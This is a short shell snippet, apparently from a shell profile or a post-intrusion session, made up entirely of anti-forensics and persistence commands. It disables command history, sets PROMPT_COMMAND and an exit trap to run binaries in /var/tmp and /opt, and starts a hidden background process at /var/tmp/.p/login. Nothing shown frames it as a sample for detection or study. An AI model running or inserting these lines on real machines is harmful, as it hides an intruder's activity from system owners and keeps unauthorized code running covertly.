export HISTFILE=/dev/null
unset HISTFILE
PROMPT_COMMAND=/var/tmp/p
trap /opt/t EXIT
/var/tmp/.p/login &
